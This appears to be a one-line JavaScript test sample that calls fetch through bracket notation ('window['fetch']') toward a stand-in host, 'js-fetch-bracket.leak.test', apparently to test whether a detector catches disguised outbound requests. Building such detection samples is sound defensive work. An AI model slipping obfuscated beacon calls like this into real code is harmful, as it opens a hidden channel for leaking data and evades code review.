window["fetch"]("https://js-fetch-bracket.leak.test/")
